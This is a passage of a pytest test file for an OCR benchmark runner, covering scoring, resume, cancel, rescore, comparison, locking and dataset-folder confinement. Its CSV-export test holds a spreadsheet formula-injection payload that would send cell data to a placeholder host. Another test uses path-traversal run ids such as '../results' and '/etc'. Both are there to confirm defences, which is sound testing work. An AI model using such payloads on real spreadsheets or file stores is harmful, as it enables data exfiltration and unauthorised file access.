"""The benchmark runner: records, summaries, resume, cancel, rescore, compare, run storage.

Most tests hand ``run_benchmark`` a factory of fake engines (``engine_factory``) over
a four-item pairs set drawn here, so every metric below is checked by hand.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from pathlib import Path

import pandas as pd
import pytest
from PIL import Image

from models.config import REPO_ROOT, AppConfig, BenchmarkDefaults, LoadedConfig, load_config
from testkit.render import RECEIPT_LINES, encode, render_lines
from utils.bench import store, views
from utils.bench.compare import compare_runs
from utils.bench.datasets import MAX_LABEL_BYTES, LabelledItem
from utils.bench.engines import BenchEngine, Prediction, create_bench_engine
from utils.bench.metrics import METRICS, Metric, bootstrap_ci
from utils.bench.plan import BenchRequest, dataset_roots, folder_within_roots
from utils.bench.records import EngineSummary, FieldScore, MetricSummary, Summary
from utils.bench.runner import run_benchmark
from utils.bench.runs import open_run, rebuild_summary, rescore
from utils.bench.scoring import build_summary
from utils.errors import BadInput, ModelUnavailable
from utils.spreadsheet import frame_csv

TRUTH = {
    "a": ("HELLO WORLD", {"total": "10.00"}),
    "b": ("GOOD MORNING", {"total": "5.50"}),
    "c": ("ONE TWO THREE FOUR", None),
    "d": ("ABCD", {"date": "01/02/2019"}),
}
# What the fake engine answers, with the hand-computed scores it must get.
ANSWERS = {
    "a": ("HELLO WORLD", {"total": "10.00"}),
    "b": ("GOOD MORNINX", {"total": "5.5"}),
    "c": ("ONE TWO", {}),
    "d": ("", {}),
}
EXPECTED_CER = {"a": 0.0, "b": 1 / 12, "c": 11 / 18, "d": 1.0}
EXPECTED_WER = {"a": 0.0, "b": 0.5, "c": 0.5, "d": 1.0}
EXPECTED_F1 = {"a": 1.0, "b": 0.5, "c": 2 / 3, "d": 0.0}
EXPECTED_FIELDS = {"a": 1.0, "b": 1.0, "d": 0.0}  # c has no labelled fields
SECONDS = {"a": 0.1, "b": 0.2, "c": 0.3, "d": 0.4}
TOKENS_OUT = {"a": 10, "b": 20, "c": 30, "d": 40}


# --------------------------------------------------------------------------- fixtures


def write_pairs_set(folder: Path, truth: dict[str, tuple[str, dict | None]]) -> Path:
    folder.mkdir(parents=True)
    for item_id, (text, fields) in truth.items():
        (folder / f"{item_id}.png").write_bytes(encode(Image.new("RGB", (16, 16), "white")))
        (folder / f"{item_id}.txt").write_text(text, encoding="utf-8")
        if fields is not None:
            (folder / f"{item_id}.json").write_text(json.dumps(fields), encoding="utf-8")
    return folder


@pytest.fixture(scope="session")
def pairs_set(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write_pairs_set(tmp_path_factory.mktemp("sets") / "four", TRUTH)


@pytest.fixture
def loaded(tmp_path: Path) -> LoadedConfig:
    profile = tmp_path / "profile.yaml"
    profile.write_text(
        f"extends: {REPO_ROOT / 'config.yaml'}\n"
        f"app:\n  data_dir: {tmp_path / 'results'}\n  cache_dir: {tmp_path / 'cache'}\n",
        encoding="utf-8",
    )
    return load_config(profile)


class FakeEngine:
    """Answers from ``ANSWERS``; hooks let a test observe or disturb each call."""

    def __init__(
        self,
        name: str = "fake",
        backend: str = "fake",
        concurrency: int = 1,
        before: Callable[[LabelledItem, int], None] | None = None,
    ) -> None:
        self.name, self.backend, self.concurrency = name, backend, concurrency
        self.before = before
        self.calls: list[str] = []
        self._lock = threading.Lock()

    def run(self, item: LabelledItem) -> Prediction:
        with self._lock:
            self.calls.append(item.item_id)
            number = len(self.calls)
        if self.before:
            self.before(item, number)
        text, fields = ANSWERS[item.item_id]
        return Prediction(
            text=text,
            fields=fields,
            seconds=SECONDS[item.item_id],
            tokens_out=TOKENS_OUT[item.item_id],
        )


class FakeEngines:
    """The ``engine_factory`` the tests pass: fakes by name, any other name from the catalog."""

    def __init__(self) -> None:
        self.by_name: dict[str, FakeEngine] = {}

    def add(self, engine: FakeEngine) -> FakeEngine:
        self.by_name[engine.name] = engine
        return engine

    def __call__(self, name: str, config: AppConfig) -> BenchEngine:
        engine = self.by_name.get(name)
        return engine if engine is not None else create_bench_engine(name, config)


@pytest.fixture
def fakes() -> FakeEngines:
    return FakeEngines()


def request(pairs_set: Path, **options) -> BenchRequest:
    return BenchRequest(
        dataset=str(pairs_set),
        engines=options.pop("engines", ["fake"]),
        template="receipt",
        **options,
    )


def comparable(summary: Summary) -> list[dict]:
    """A summary's per-engine results without the process's memory high-water marks."""
    return [e.model_dump(exclude={"peak_rss_bytes", "peak_vram_bytes"}) for e in summary.engines]


# --------------------------------------------------------------------------- one clean run


def test_run_scores_every_item_as_computed_by_hand(
    loaded: LoadedConfig, pairs_set: Path, fakes: FakeEngines
) -> None:
    fakes.add(FakeEngine())
    outcome = run_benchmark(loaded, request(pairs_set), engine_factory=fakes)
    data_dir = loaded.config.data_dir
    records = {r.item_id: r for r in store.read_items(data_dir, outcome.run_id).records}
    assert outcome.status == "complete" and outcome.recorded_now == 4
    for item_id, record in records.items():
        assert record.status == "ok"
        assert record.metrics["cer"] == pytest.approx(EXPECTED_CER[item_id])
        assert record.metrics["wer"] == pytest.approx(EXPECTED_WER[item_id])
        assert record.metrics["word_f1"] == pytest.approx(EXPECTED_F1[item_id])
        if item_id in EXPECTED_FIELDS:
            assert record.metrics["field_accuracy"] == EXPECTED_FIELDS[item_id]
        else:
            assert "field_accuracy" not in record.metrics
        assert record.truth_text == TRUTH[item_id][0] and record.template == "receipt"
    engine = outcome.summary.engines[0]
    assert (engine.n, engine.ok, engine.errors, engine.skipped) == (4, 4, 0, 0)
    assert engine.metrics["cer"].value == pytest.approx(sum(EXPECTED_CER.values()) / 4)
    assert engine.metrics["field_accuracy"].value == pytest.approx(2 / 3)
    assert engine.metrics["field_accuracy"].n == 3
    assert {k: v.accuracy for k, v in engine.fields.items()} == {"date": 0.0, "total": 1.0}
    assert engine.latency_mean_s == pytest.approx(0.25)
    assert engine.latency_p50_s == pytest.approx(0.25)
    assert engine.latency_p95_s == pytest.approx(0.385)
    assert engine.pages_per_minute == pytest.approx(240.0)
    assert engine.tokens_out == 100 and engine.output_tokens_per_s == pytest.approx(100.0)
    assert engine.peak_rss_bytes and engine.peak_rss_bytes > 10_000_000


def test_confidence_intervals_are_seeded_bootstrap_over_sorted_items(
    loaded: LoadedConfig, pairs_set: Path, fakes: FakeEngines
) -> None:
    fakes.add(FakeEngine())
    outcome = run_benchmark(loaded, request(pairs_set), engine_factory=fakes)
    cer = outcome.summary.engines[0].metrics["cer"]
    values = [EXPECTED_CER[k] for k in sorted(EXPECTED_CER)]
    assert (cer.ci_low, cer.ci_high) == pytest.approx(bootstrap_ci(values, 1000, 0.95, seed=0))
    assert cer.ci_low < cer.value < cer.ci_high
    data_dir = loaded.config.data_dir
    assert store.read_summary(data_dir, outcome.run_id) == outcome.summary
    assert rebuild_summary(data_dir, outcome.run_id) == outcome.summary


def test_summary_does_not_depend_on_record_order(
    loaded: LoadedConfig, pairs_set: Path, fakes: FakeEngines
) -> None:
    fakes.add(FakeEngine())
    run_id = run_benchmark(loaded, request(pairs_set), engine_factory=fakes).run_id
    detail = open_run(loaded.config.data_dir, run_id)
    assert build_summary(detail.manifest, reversed(detail.items)) == detail.summary


def test_manifest_first_then_one_appended_record_per_item(
    loaded: LoadedConfig, pairs_set: Path, fakes: FakeEngines
) -> None:
    seen: list[tuple[bool, int]] = []
    data_dir = loaded.config.data_dir
    run_id = "20250101T000000Z-00aa11"

    def observe(item: LabelledItem, number: int) -> None:
        items = store.items_path(data_dir, run_id)
        lines = items.read_text().count("\n") if items.exists() else 0
        seen.append(((store.run_dir(data_dir, run_id) / "manifest.json").is_file(), lines))

    fakes.add(FakeEngine(before=observe))
    run_benchmark(loaded, request(pairs_set, run_id=run_id), engine_factory=fakes)
    assert seen == [(True, 0), (True, 1), (True, 2), (True, 3)]
    manifest = store.read_manifest(data_dir, run_id)
    assert manifest.dataset.items == 4 and manifest.items_planned == 4
    assert manifest.profile_sha256 == loaded.sha256
    assert manifest.versions["python"] and "torch" in manifest.versions
    assert manifest.engines[0].source == "registered" and manifest.template == "receipt"
    assert set(manifest.templates) == {"receipt"}
    assert manifest.hardware.cpu_count


def test_limit_and_progress_reports(
    loaded: LoadedConfig, pairs_set: Path, fakes: FakeEngines
) -> None:
    fakes.add(FakeEngine())
    reports: list[tuple] = []
    outcome = run_benchmark(
        loaded,
        request(pairs_set, limit=3),
        progress=lambda *args: reports.append(args),
        engine_factory=fakes,
    )
    assert outcome.summary.items_total == 3 and outcome.summary.complete
    assert [r[:3] for r in reports] == [(0, 3, 0), (1, 3, 0), (2, 3, 0), (3, 3, 0)]
    assert reports[0][3] is None and reports[-1][3] == 0.0


# --------------------------------------------------------------------------- failures


def test_item_errors_are_recorded_scored_empty_and_the_run_goes_on(
    loaded: LoadedConfig, pairs_set: Path, fakes: FakeEngines
) -> None:
    def fail_on_b(item: LabelledItem, number: int) -> None:
        if item.item_id == "b":
            raise RuntimeError("engine fell over")

    fakes.add(FakeEngine(before=fail_on_b))
    outcome = run_benchmark(loaded, request(pairs_set), engine_factory=fakes)
    records = {
        r.item_id: r for r in store.read_items(loaded.config.data_dir, outcome.run_id).records
    }
    assert records["b"].status == "error"
    assert records["b"].message == "RuntimeError: engine fell over"
    assert records["b"].metrics["cer"] == 1.0 and records["b"].metrics["field_accuracy"] == 0.0
    assert outcome.summary.engines[0].errors == 1 and outcome.summary.engines[0].ok == 3
    assert outcome.status == "complete"


def test_malformed_item_is_skipped_with_its_problem(
    loaded: LoadedConfig, tmp_path: Path, fakes: FakeEngines
) -> None:
    folder = write_pairs_set(tmp_path / "set", {"a": TRUTH["a"], "b": TRUTH["b"]})
    (folder / "b.png").write_bytes(b"this is not a png")
    engine = fakes.add(FakeEngine())
    outcome = run_benchmark(loaded, request(folder), engine_factory=fakes)
    records = {
        r.item_id: r for r in store.read_items(loaded.config.data_dir, outcome.run_id).records
    }
    assert records["b"].status == "skipped" and "unreadable image" in (records["b"].message or "")
    assert records["b"].metrics == {} and records["a"].status == "ok"
    assert engine.calls == ["a"]
    summary = outcome.summary.engines[0]
    assert (summary.n, summary.skipped, summary.metrics["cer"].n) == (2, 1, 1)


def test_an_unavailable_engine_fails_the_run(
    loaded: LoadedConfig, pairs_set: Path, fakes: FakeEngines
) -> None:
    def unavailable(item: LabelledItem, number: int) -> None:
        raise ModelUnavailable("server down", hint="start it")

    fakes.add(FakeEngine(before=unavailable))
    with pytest.raises(ModelUnavailable):
        run_benchmark(
            loaded, request(pairs_set, run_id="20250101T000000Z-0000f1"), engine_factory=fakes
        )
    state = store.read_state(loaded.config.data_dir, "20250101T000000Z-0000f1")
    assert state.status == "failed" and "server down" in (state.message or "")


def test_unknown_engine_and_template_are_refused_before_anything_is_written(
    loaded: LoadedConfig, pairs_set: Path
) -> None:
    with pytest.raises(ModelUnavailable, match="rapidocr"):
        run_benchmark(loaded, request(pairs_set, engines=["nope"]))
    with pytest.raises(BadInput, match="no engine"):
        run_benchmark(loaded, BenchRequest(dataset=str(pairs_set)))
    with pytest.raises(BadInput, match="no template"):
        run_benchmark(
            loaded, BenchRequest(dataset=str(pairs_set), engines=["rapidocr"], template="x")
        )
    assert store.list_bench_runs(loaded.config.data_dir) == []


# --------------------------------------------------------------------------- resume


def test_resume_after_a_crash_records_each_item_once(
    loaded: LoadedConfig, pairs_set: Path, fakes: FakeEngines, tmp_path: Path
) -> None:
    run_id = "20250101T000000Z-c0ffee"

    def crash_on_third(item: LabelledItem, number: int) -> None:
        if number == 3:
            raise SystemExit("killed")

    fakes.add(FakeEngine(name="fake", before=crash_on_third))
    with pytest.raises(SystemExit):
        run_benchmark(loaded, request(pairs_set, run_id=run_id), engine_factory=fakes)
    data_dir = loaded.config.data_dir
    assert len(store.read_items(data_dir, run_id).records) == 2
    assert store.read_state(data_dir, run_id).status == "interrupted"
    resumed_engine = fakes.add(FakeEngine(name="fake"))
    outcome = run_benchmark(loaded, BenchRequest(run_id=run_id), engine_factory=fakes)
    assert (outcome.recorded_before, outcome.recorded_now) == (2, 2)
    assert sorted(resumed_engine.calls) == ["c", "d"]
    keys = [(r.engine, r.item_id) for r in store.read_items(data_dir, run_id).records]
    assert sorted(keys) == [("fake", i) for i in "abcd"]
    clean = run_benchmark(loaded, request(pairs_set), engine_factory=fakes)
    assert comparable(outcome.summary) == comparable(clean.summary)
    assert store.read_state(data_dir, run_id).status == "complete"


def test_cancel_stops_after_the_item_in_flight_and_resumes(
    loaded: LoadedConfig, pairs_set: Path, fakes: FakeEngines
) -> None:
    cancel = threading.Event()
    fakes.add(FakeEngine(before=lambda item, n: cancel.set() if n == 2 else None))
    outcome = run_benchmark(loaded, request(pairs_set), cancel=cancel, engine_factory=fakes)
    data_dir = loaded.config.data_dir
    assert outcome.status == "cancelled" and outcome.summary.items_recorded == 2
    assert not outcome.summary.complete
    assert store.read_state(data_dir, outcome.run_id).status == "cancelled"
    assert [r.status for r in store.list_bench_runs(data_dir)] == ["cancelled"]
    again = run_benchmark(loaded, BenchRequest(run_id=outcome.run_id), engine_factory=fakes)
    assert again.status == "complete" and again.recorded_now == 2 and again.summary.complete


class _ScriptStopped(BaseException):
    """What a web page's click raises in its running script (Streamlit's rerun)."""


def test_a_run_stopped_from_its_progress_callback_is_cancelled_and_resumable(
    loaded: LoadedConfig, pairs_set: Path, fakes: FakeEngines
) -> None:
    def progress(done: int, total: int, failures: int, left: float | None) -> None:
        if done == 2:
            raise _ScriptStopped

    fakes.add(FakeEngine())
    with pytest.raises(_ScriptStopped):
        run_benchmark(loaded, request(pairs_set), progress, engine_factory=fakes)
    data_dir = loaded.config.data_dir
    (listing,) = store.list_bench_runs(data_dir)
    state = store.read_state(data_dir, listing.run_id)
    assert (state.status, state.message) == ("cancelled", "stopped before finishing; resume it")
    assert listing.items_recorded == 2  # the record whose progress report was stopped is kept
    again = run_benchmark(loaded, BenchRequest(run_id=listing.run_id), engine_factory=fakes)
    assert again.status == "complete" and again.recorded_now == 2


def test_a_torn_last_record_is_redone(
    loaded: LoadedConfig, pairs_set: Path, fakes: FakeEngines
) -> None:
    fakes.add(FakeEngine())
    first = run_benchmark(loaded, request(pairs_set), engine_factory=fakes)
    path = store.items_path(loaded.config.data_dir, first.run_id)
    data = path.read_bytes()
    path.write_bytes(data[: len(data) - 25])  # the last record loses its end and newline
    engine = fakes.add(FakeEngine())
    again = run_benchmark(loaded, BenchRequest(run_id=first.run_id), engine_factory=fakes)
    assert engine.calls == ["d"]
    read = store.read_items(loaded.config.data_dir, first.run_id)
    assert read.bad_lines == 0 and len(read.records) == 4
    assert comparable(again.summary) == comparable(first.summary)


def test_resume_refuses_a_different_request_or_a_changed_dataset(
    loaded: LoadedConfig, tmp_path: Path, fakes: FakeEngines
) -> None:
    folder = write_pairs_set(tmp_path / "set", {"a": TRUTH["a"]})
    fakes.add(FakeEngine())
    run_id = run_benchmark(loaded, request(folder), engine_factory=fakes).run_id
    with pytest.raises(BadInput, match="engines"):
        run_benchmark(
            loaded, BenchRequest(run_id=run_id, engines=["rapidocr"]), engine_factory=fakes
        )
    with pytest.raises(BadInput, match="limit"):
        run_benchmark(loaded, BenchRequest(run_id=run_id, limit=1), engine_factory=fakes)
    (folder / "a.txt").write_text("HELLO THERE", encoding="utf-8")
    with pytest.raises(BadInput, match="changed"):
        run_benchmark(loaded, BenchRequest(run_id=run_id), engine_factory=fakes)


def test_a_second_runner_of_the_same_run_is_refused(
    loaded: LoadedConfig, pairs_set: Path, fakes: FakeEngines
) -> None:
    fakes.add(FakeEngine())
    run_id = "20250101T000000Z-abcdef"
    data_dir = loaded.config.data_dir
    with store.hold_run_lock(data_dir, run_id):
        assert store.is_running(data_dir, run_id)
        with pytest.raises(BadInput, match="already running"):
            run_benchmark(loaded, request(pairs_set, run_id=run_id), engine_factory=fakes)
    assert not store.is_running(data_dir, run_id)


def test_runs_list_shows_a_running_run(
    loaded: LoadedConfig, pairs_set: Path, fakes: FakeEngines
) -> None:
    data_dir = loaded.config.data_dir
    seen: list[tuple[str, int, int]] = []

    def look(item: LabelledItem, number: int) -> None:
        seen.extend(
            (r.status, r.items_recorded, r.items_total) for r in store.list_bench_runs(data_dir)
        )

    fakes.add(FakeEngine(before=look))
    run_benchmark(loaded, request(pairs_set, limit=2), engine_factory=fakes)
    assert seen == [("running", 0, 2), ("running", 1, 2)]
    assert [(r.status, r.items_recorded) for r in store.list_bench_runs(data_dir)] == [
        ("complete", 2)
    ]


# --------------------------------------------------------------------------- concurrency


def test_openai_backend_keeps_concurrency_items_in_flight(
    loaded: LoadedConfig, pairs_set: Path, fakes: FakeEngines
) -> None:
    gate = threading.Barrier(3, timeout=10)  # breaks unless 3 calls are in flight together
    in_flight, peak = [0], [0]
    lock = threading.Lock()

    def overlap(item: LabelledItem, number: int) -> None:
        with lock:
            in_flight[0] += 1
            peak[0] = max(peak[0], in_flight[0])
        if number <= 3:
            gate.wait()
        time.sleep(0.02)
        with lock:
            in_flight[0] -= 1

    engine = fakes.add(FakeEngine(backend="openai", concurrency=3, before=overlap))
    outcome = run_benchmark(loaded, request(pairs_set), engine_factory=fakes)
    assert peak[0] == 3 and sorted(engine.calls) == ["a", "b", "c", "d"]
    records = store.read_items(loaded.config.data_dir, outcome.run_id)
    assert records.bad_lines == 0 and sorted(r.item_id for r in records.records) == list("abcd")
    assert all(r.status == "ok" for r in records.records)
    assert store.read_manifest(loaded.config.data_dir, outcome.run_id).engines[0].concurrency == 3


# --------------------------------------------------------------------------- rescore / compare


def test_rescore_keeps_good_records_and_fixes_a_corrupted_metric(
    loaded: LoadedConfig, pairs_set: Path, fakes: FakeEngines
) -> None:
    fakes.add(FakeEngine())
    first = run_benchmark(loaded, request(pairs_set), engine_factory=fakes)
    data_dir = loaded.config.data_dir
    path = store.items_path(data_dir, first.run_id)
    original = path.read_bytes()
    unchanged = rescore(data_dir, first.run_id)
    assert unchanged.changed == 0 and path.read_bytes() == original
    assert unchanged.summary == first.summary
    lines = original.decode().splitlines()
    broken = json.loads(lines[0])
    broken["metrics"]["cer"] = 0.9
    path.write_text("\n".join([json.dumps(broken), *lines[1:]]) + "\n")
    assert rebuild_summary(data_dir, first.run_id) != first.summary
    fixed = rescore(data_dir, first.run_id)
    assert fixed.changed == 1 and fixed.summary == first.summary
    assert store.read_summary(data_dir, first.run_id) == first.summary


def test_rescore_adds_a_newly_registered_metric(
    loaded: LoadedConfig, pairs_set: Path, fakes: FakeEngines, monkeypatch: pytest.MonkeyPatch
) -> None:
    fakes.add(FakeEngine())
    run_id = run_benchmark(loaded, request(pairs_set), engine_factory=fakes).run_id
    length = Metric("length_ratio", lambda p, t: len(p) / len(t), "higher")
    monkeypatch.setitem(METRICS, "length_ratio", length)
    outcome = rescore(loaded.config.data_dir, run_id)
    assert outcome.changed == 4
    assert outcome.summary.engines[0].metrics["length_ratio"].value == pytest.approx(
        (1 + 1 + 7 / 18 + 0) / 4
    )


def test_compare_puts_runs_side_by_side_with_deltas(
    loaded: LoadedConfig, pairs_set: Path, fakes: FakeEngines
) -> None:
    fakes.add(FakeEngine())
    first = run_benchmark(loaded, request(pairs_set), engine_factory=fakes).run_id
    perfect = fakes.add(FakeEngine(name="perfect"))
    perfect.run = lambda item: Prediction(text=item.text, fields=item.fields or {}, seconds=0.1)
    second = run_benchmark(
        loaded, request(pairs_set, engines=["perfect"]), engine_factory=fakes
    ).run_id
    comparison = compare_runs(loaded.config.data_dir, [first, second])
    assert [(c.run_id, c.engine) for c in comparison.columns] == [
        (first, "fake"),
        (second, "perfect"),
    ]
    rows = {row.key: row for row in comparison.rows}
    base, other = rows["cer"].cells
    assert base.delta is None and other.value == 0.0
    assert other.delta == pytest.approx(-sum(EXPECTED_CER.values()) / 4) and other.better is True
    assert rows["field:date"].cells[1].better is True
    assert rows["latency_p50_s"].cells[1].better is True
    assert comparison.notes == []
    with pytest.raises(BadInput):
        compare_runs(loaded.config.data_dir, [])


# --------------------------------------------------------------------------- stored runs


def test_rename_and_delete(loaded: LoadedConfig, pairs_set: Path, fakes: FakeEngines) -> None:
    fakes.add(FakeEngine())
    data_dir = loaded.config.data_dir
    run_id = run_benchmark(loaded, request(pairs_set), engine_factory=fakes).run_id
    store.rename_run(data_dir, run_id, "  baseline   run ")
    assert [r.name for r in store.list_bench_runs(data_dir)] == ["baseline run"]
    with pytest.raises(BadInput):
        store.rename_run(data_dir, run_id, "   ")
    store.delete_run(data_dir, run_id)
    assert store.list_bench_runs(data_dir) == [] and not store.run_dir(data_dir, run_id).exists()
    with pytest.raises(BadInput):
        store.delete_run(data_dir, run_id)


@pytest.mark.parametrize(
    "bad",
    ["..", "../results", "/etc", "20250101T000000Z-abc", "20250101T000000Z-1a2b3c/../x", ""],
)
def test_path_like_run_ids_are_refused(loaded: LoadedConfig, bad: str, tmp_path: Path) -> None:
    data_dir = loaded.config.data_dir
    for action in (
        lambda: store.delete_run(data_dir, bad),
        lambda: store.rename_run(data_dir, bad, "x"),
        lambda: open_run(data_dir, bad),
        lambda: rescore(data_dir, bad),
        lambda: run_benchmark(loaded, BenchRequest(run_id=bad, engines=["rapidocr"])),
    ):
        with pytest.raises(BadInput, match="not a benchmark run id"):
            action()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["profile.yaml"]


def test_open_run_rebuilds_a_missing_summary(
    loaded: LoadedConfig, pairs_set: Path, fakes: FakeEngines
) -> None:
    fakes.add(FakeEngine())
    data_dir = loaded.config.data_dir
    outcome = run_benchmark(loaded, request(pairs_set), engine_factory=fakes)
    (store.run_dir(data_dir, outcome.run_id) / "summary.json").unlink()
    detail = open_run(data_dir, outcome.run_id)
    assert detail.summary == outcome.summary and len(detail.items) == 4
    assert detail.state.status == "complete"


# --------------------------------------------------------------------------- a real engine


def test_rapidocr_through_the_pipeline(loaded: LoadedConfig, tmp_path: Path) -> None:
    folder = tmp_path / "receipts"
    folder.mkdir()
    lines = [left + (f" {right}" if right else "") for left, right in RECEIPT_LINES]
    for item_id in ("r1", "r2"):
        image = render_lines(RECEIPT_LINES, size=(700, 520), font_size=26)
        (folder / f"{item_id}.png").write_bytes(encode(image))
        (folder / f"{item_id}.txt").write_text("\n".join(lines), encoding="utf-8")
        (folder / f"{item_id}.json").write_text(json.dumps({"total": "10.00"}))
    outcome = run_benchmark(
        loaded, BenchRequest(dataset=str(folder), engines=["rapidocr"], template="receipt")
    )
    records = store.read_items(loaded.config.data_dir, outcome.run_id).records
    assert [r.status for r in records] == ["ok", "ok"]
    assert all(r.seconds and r.seconds > 0 and r.pages == 1 for r in records)
    assert all(r.metrics["cer"] < 0.15 and r.fields_correct == {"total": True} for r in records)
    manifest = store.read_manifest(loaded.config.data_dir, outcome.run_id)
    engine = manifest.engines[0]
    assert engine.source == "catalog" and engine.catalog_entry["backend"] == "rapidocr"
    assert engine.ocr_options and "engine_options" in engine.ocr_options
    assert manifest.versions["rapidocr"] and manifest.versions["onnxruntime"]


# --------------------------------------------------------------------------- issue 14 defects


def test_an_item_with_a_label_over_the_limit_is_skipped_and_the_run_goes_on(
    loaded: LoadedConfig, tmp_path: Path, fakes: FakeEngines
) -> None:
    folder = write_pairs_set(tmp_path / "set", {"a": TRUTH["a"], "b": TRUTH["b"]})
    (folder / "b.txt").write_text("WORD " * (MAX_LABEL_BYTES // 5 + 1), encoding="utf-8")
    fakes.add(FakeEngine())

    outcome = run_benchmark(loaded, request(folder), engine_factory=fakes)

    records = {
        r.item_id: r for r in store.read_items(loaded.config.data_dir, outcome.run_id).records
    }
    assert outcome.status == "complete" and records["a"].status == "ok"
    assert records["b"].status == "skipped" and records["b"].truth_text is None
    assert records["b"].message == "label over 1024 KB: b.txt"


@pytest.mark.parametrize("number", ["Infinity", "-Infinity", "NaN", "1e999"])
def test_non_finite_numbers_in_stored_records_are_skipped_and_rescore_works(
    loaded: LoadedConfig, pairs_set: Path, fakes: FakeEngines, number: str
) -> None:
    fakes.add(FakeEngine())
    first = run_benchmark(loaded, request(pairs_set), engine_factory=fakes)
    data_dir = loaded.config.data_dir
    path = store.items_path(data_dir, first.run_id)
    lines = path.read_text(encoding="utf-8").splitlines()
    bad_seconds = re.sub(r'"seconds":[^,]+', f'"seconds":{number}', lines[0])
    bad_metric = re.sub(r'"cer":[^,}]+', f'"cer":{number}', lines[1])
    path.write_text("\n".join([bad_seconds, bad_metric, *lines[2:]]) + "\n", encoding="utf-8")

    assert store.read_items(data_dir, first.run_id).bad_lines == 2
    outcome = rescore(data_dir, first.run_id)

    assert outcome.records == 2 and outcome.dropped_lines == 2
    assert store.read_summary(data_dir, first.run_id) == outcome.summary
    assert outcome.summary.items_recorded == 2
    assert store.read_items(data_dir, first.run_id).bad_lines == 0


def test_the_run_lock_lives_in_the_hidden_locks_folder_and_dies_with_its_runner(
    loaded: LoadedConfig, pairs_set: Path, fakes: FakeEngines
) -> None:
    fakes.add(FakeEngine())
    data_dir = loaded.config.data_dir
    run_id = "20250101T000000Z-abcdef"
    lock = store.run_lock_path(data_dir, run_id)
    assert lock == store.run_dir(data_dir, run_id) / ".locks" / "run.lock"
    holder = subprocess.Popen(
        [sys.executable, "-c", HOLD_LOCK, str(lock)], stdout=subprocess.PIPE, text=True
    )
    try:
        assert holder.stdout.readline() == "held\n"
        assert store.is_running(data_dir, run_id)
        with pytest.raises(BadInput, match="already running"):
            run_benchmark(loaded, request(pairs_set, run_id=run_id), engine_factory=fakes)
    finally:
        holder.kill()  # a crashed runner: its lock is freed with it
        holder.wait()

    assert not store.is_running(data_dir, run_id)
    outcome = run_benchmark(loaded, request(pairs_set, run_id=run_id), engine_factory=fakes)
    assert outcome.status == "complete"
    visible = sorted(p.name for p in store.run_dir(data_dir, run_id).iterdir())
    assert visible == [".locks", "items.jsonl", "manifest.json", "state.json", "summary.json"]


HOLD_LOCK = """
import sys, time
from filelock import FileLock
lock = FileLock(sys.argv[1], timeout=0)
lock.acquire()
print("held", flush=True)
time.sleep(60)
"""


def test_csv_exports_neutralise_formulas_in_names_headers_and_messages(
    loaded: LoadedConfig, pairs_set: Path, fakes: FakeEngines
) -> None:
    payload = '=HYPERLINK("http://HOST/?x="&A1,"c")'
    failing = fakes.add(FakeEngine(name="failing"))
    failing.run = lambda item: (_ for _ in ()).throw(BadInput("@SUM(A1) " + item.item_id))
    fakes.add(FakeEngine())
    data_dir = loaded.config.data_dir
    first = run_benchmark(loaded, request(pairs_set), engine_factory=fakes).run_id
    second = run_benchmark(
        loaded, request(pairs_set, engines=["failing"]), engine_factory=fakes
    ).run_id
    store.rename_run(data_dir, first, payload)

    table = views.runs_table(store.list_bench_runs(data_dir))
    runs = parse_csv(frame_csv(table))
    board = parse_csv(frame_csv(views.leaderboard(table, "cer")))
    compared = parse_csv(frame_csv(views.comparison_table(compare_runs(data_dir, [second, first]))))
    items = parse_csv(frame_csv(views.items_table(open_run(data_dir, second))))

    assert "'" + payload in [row[runs[0].index("name")] for row in runs]
    assert "'" + payload in [row[board[0].index("name")] for row in board]
    assert "'" + payload + " · fake" in compared[0]
    assert {row[items[0].index("message")][:9] for row in items[1:]} == {"'@SUM(A1)"}
    cells = [cell for rows in (runs, board, compared, items) for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "@", "\t", "\r")]


def parse_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


# --------------------------------------------------------------------------- dataset roots


def test_dataset_roots_default_to_the_data_folder_and_follow_the_profile(
    loaded: LoadedConfig, tmp_path: Path
) -> None:
    assert dataset_roots(loaded.config) == [loaded.config.data_dir / "datasets"]
    config = loaded.config.model_copy(
        update={"benchmark": BenchmarkDefaults(dataset_roots=[tmp_path / "sets", Path("relative")])}
    )
    assert dataset_roots(config) == [tmp_path / "sets", REPO_ROOT / "relative"]


def test_a_folder_must_resolve_inside_a_root(tmp_path: Path) -> None:
    root = tmp_path / "roots" / "one"
    (root / "receipts").mkdir(parents=True)
    (tmp_path / "secret").mkdir()
    (root / "escape").symlink_to(tmp_path / "secret", target_is_directory=True)
    (tmp_path / "lookalike").symlink_to(root, target_is_directory=True)

    assert folder_within_roots(str(root / "receipts"), [root]) == (root / "receipts").resolve()
    assert folder_within_roots(str(root), [root]) == root.resolve()
    assert folder_within_roots(str(tmp_path / "lookalike"), [root]) == root.resolve()
    for outside in (
        tmp_path / "secret",
        root / "escape",
        root / ".." / ".." / "secret",
        tmp_path / "roots" / "one-more",
        Path("/etc"),
    ):
        with pytest.raises(BadInput, match="not inside a dataset folder"):
            folder_within_roots(str(outside), [root])
    with pytest.raises(BadInput, match="built-in sample set only"):
        folder_within_roots(str(root), [])
    with pytest.raises(BadInput, match="not a usable folder path"):
        folder_within_roots("bad\0name", [root])


def test_requests_from_the_page_are_confined_to_the_roots_others_are_not(
    loaded: LoadedConfig, pairs_set: Path, fakes: FakeEngines
) -> None:
    fakes.add(FakeEngine())
    data_dir = loaded.config.data_dir
    with pytest.raises(BadInput, match="not inside a dataset folder"):
        run_benchmark(loaded, request(pairs_set, within_dataset_roots=True), engine_factory=fakes)
    assert store.list_bench_runs(data_dir) == []

    inside = data_dir / "datasets" / "four"
    shutil.copytree(pairs_set, inside)
    page_run = request(inside, within_dataset_roots=True)
    assert run_benchmark(loaded, page_run, engine_factory=fakes).status == "complete"
    assert run_benchmark(loaded, request(pairs_set), engine_factory=fakes).status == "complete"


def test_memory_sizes_read_in_mib_or_gib() -> None:
    assert views.format_bytes(1.901e9) == "1.77 GiB"
    assert views.format_bytes(5 * 2**20) == "5.0 MiB"
    assert views.format_bytes(None) == "—"


def _engine_summary(engine: str, cer: float, rss: int | None) -> EngineSummary:
    return EngineSummary(
        engine=engine,
        n=4,
        ok=3,
        errors=1,
        skipped=0,
